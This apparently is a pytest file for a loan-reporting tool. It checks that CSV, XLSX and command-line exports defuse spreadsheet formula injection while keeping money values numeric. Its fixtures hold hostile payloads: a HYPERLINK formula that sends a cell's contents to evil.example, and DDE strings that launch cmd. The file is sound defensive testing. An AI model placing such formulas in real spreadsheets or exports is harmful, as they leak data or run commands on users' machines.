"""Safe exports: a text cell a spreadsheet would run as a formula leaves with a leading
apostrophe, in CSV and XLSX, masked or not; money (a negative change too) stays a number."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from npldesk.cli.output import OutputFormat, emit
from npldesk.reports.exports import list_export, write_csv, write_file
from tests.reports.test_exports import early_warning_result

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile_result():  # type: ignore[no-untyped-def]
    result = early_warning_result()
    first, second = result.rows
    first = {**first, "borrower_name": HOSTILE_NAME, "product": "@SUM(1+1)*cmd|'/C calc'!A0"}
    second = {**second, "principal_balance": Decimal("-1250.50"), "reasons": "-2+3", "phone": "\t1"}
    return replace(result, rows=[first, second])


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("pii", [True, False])
def test_a_csv_list_neutralises_formulas_and_keeps_numbers(pii: bool) -> None:
    stream = io.StringIO()
    write_csv(list_export(_hostile_result(), pii=pii), stream)
    first, second = _csv_rows(stream.getvalue())
    assert first["borrower_name"] == "'" + (HOSTILE_NAME if pii else "=" + "*" * 45)
    assert first["product"] == "'@SUM(1+1)*cmd|'/C calc'!A0"
    assert second["reasons"] == "'-2+3"
    assert second["principal_balance"] == "-1250.50"
    assert first["principal_balance"] == "1234567.89"
    for row in (first, second):
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())


def test_an_xlsx_list_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    table = list_export(_hostile_result(), pii=True)
    target = write_file(table, "xlsx", tmp_path / "ew.xlsx")
    sheet = openpyxl.load_workbook(target).active
    assert sheet is not None
    header = list(table.columns)  # the sheet's head row is in the home's language
    first = dict(zip(header, [cell.value for cell in sheet[4]], strict=True))
    second = dict(zip(header, [cell.value for cell in sheet[5]], strict=True))
    assert first["borrower_name"] == "'" + HOSTILE_NAME
    assert first["product"] == "'@SUM(1+1)*cmd|'/C calc'!A0"
    assert second["reasons"] == "'-2+3"
    assert second["phone"] == "'\t1"
    assert second["principal_balance"] == pytest.approx(-1250.50)
    assert isinstance(second["days_past_due"], int)
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_the_command_lines_csv_neutralises_formulas_and_keeps_numbers(
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows = [
        {"key": "=cmd|' /C calc'!A0", "name": "+86 555", "npl_balance_change": "-1250.50"},
        {"key": "HB01", "name": "@x", "npl_balance_change": Decimal("-0.10")},
    ]
    emit(rows, ["key", "name", "npl_balance_change"], OutputFormat.csv)
    first, second = _csv_rows(capsys.readouterr().out)
    assert first == {
        "key": "'=cmd|' /C calc'!A0",
        "name": "'+86 555",
        "npl_balance_change": "-1250.50",
    }
    assert second == {"key": "HB01", "name": "'@x", "npl_balance_change": "-0.10"}
